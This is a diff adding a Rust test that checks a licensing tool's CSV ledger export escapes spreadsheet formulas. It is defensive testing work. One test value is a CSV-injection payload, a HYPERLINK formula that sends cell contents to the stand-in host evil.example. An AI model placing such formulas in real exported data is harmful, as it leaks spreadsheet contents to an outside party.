@@ -436,3 +436,47 @@ fn outputs_are_never_devices_fifos_or_folders() {
     // Nothing was issued for output that could not be written.
     assert_eq!(v.licenses(), 0);
 }
+
+/// OWASP CSV injection: a customer or PBX name a spreadsheet would run as
+/// a formula is exported as text (a leading `'`), as the agent's
+/// `seats export` does.
+#[test]
+fn ledger_export_quotes_cells_a_spreadsheet_would_run() {
+    let v = Vendor::new();
+    let order = std::fs::read_to_string(v.path().join("order.toml")).unwrap();
+    let edited = order
+        .replacen(
+            "customer = \"Example Dental Clinic\"",
+            "customer = \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1)\"",
+            1,
+        )
+        .replacen("pbx_name = \"Main office\"", "pbx_name = \"+SUM(1;2)\"", 1);
+    assert_ne!(edited, order);
+    std::fs::write(v.path().join("formula.toml"), edited).unwrap();
+    let req = v.request("device.req", &samples::request());
+    let issued = v.run(&[
+        "issue",
+        "--order",
+        "formula.toml",
+        "--request",
+        &req,
+        "-o",
+        "out.lic",
+    ]);
+    assert_eq!(issued.code, 0, "{}", issued.stderr);
+    let out = v.run(&["ledger", "export", "--csv", "-o", "-"]);
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let mut rows = csv::Reader::from_reader(out.stdout.as_bytes());
+    let headers = rows.headers().unwrap().clone();
+    let row = rows.records().next().unwrap().unwrap();
+    let get = |name: &str| {
+        let i = headers.iter().position(|h| h == name).unwrap();
+        row.get(i).unwrap().to_owned()
+    };
+    assert_eq!(
+        get("customer"),
+        "'=HYPERLINK(\"http://evil.example/?x=\"&A1)"
+    );
+    assert_eq!(get("pbx_name"), "'+SUM(1;2)");
+    assert_eq!(get("operator"), "alice");
+}
